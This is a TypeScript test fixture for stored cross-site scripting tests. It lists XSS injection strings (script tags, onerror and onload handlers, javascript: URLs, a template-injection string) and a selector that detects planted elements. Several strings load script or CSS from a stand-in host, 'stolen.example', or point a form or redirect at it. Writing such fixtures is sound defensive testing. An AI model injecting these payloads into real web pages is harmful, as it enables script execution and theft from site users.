const spy = 'https://stolen.example/pwned';

/** Strings for the stored XSS test that run or load something if a page treats them as markup, URL or template. */
export const injections: readonly string[] = [
  '<script>window.pwned=1</script>',
  '<img src=/pwned.png onerror=window.pwned=1>',
  '"><svg/onload=window.pwned=1>',
  `'"><img src=${spy}.gif>`,
  `</title></textarea><script src=${spy}.js></script>`,
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<iframe src="javascript:parent.pwned=1"></iframe>',
  '<a href="javascript:window.pwned=1">Receipt</a>',
  'javascript:window.pwned=1//',
  `<style>@import '${spy}.css';</style>`,
  `<link rel=stylesheet href=${spy}.css>`,
  `<meta http-equiv=refresh content="0;url=${spy}">`,
  `<base href=${spy}/>`,
  `<form action=${spy}><input autofocus onfocus=window.pwned=1>`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template that must not be one
  "{{constructor.constructor('window.pwned=1')()}}${window.pwned=1}",
  "';window.pwned=1;//",
  '<math><a xlink:href=javascript:window.pwned=1>x',
  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
  '<!--><img src=/pwned.png onerror=alert(1)>',
];

export const injection = (place: number): string => injections[place % injections.length] ?? '';

/** Injection strings short enough for names. */
export const nameInjections: readonly string[] = injections.filter((text) => text.length <= 80);

export const nameBait = (place: number): string => nameInjections[place % nameInjections.length] ?? '';

/** Selector of elements that an injection would create. */
export const planted = [
  ...['onerror', 'onload', 'onfocus', 'srcdoc', 'src*=pwned', 'action*=pwned', 'href^="javascript:"'].map(
    (attribute) => `[${attribute}]`,
  ),
  'base',
  'meta[http-equiv=refresh]',
  'link[href*=pwned]',
  'math',
].join();
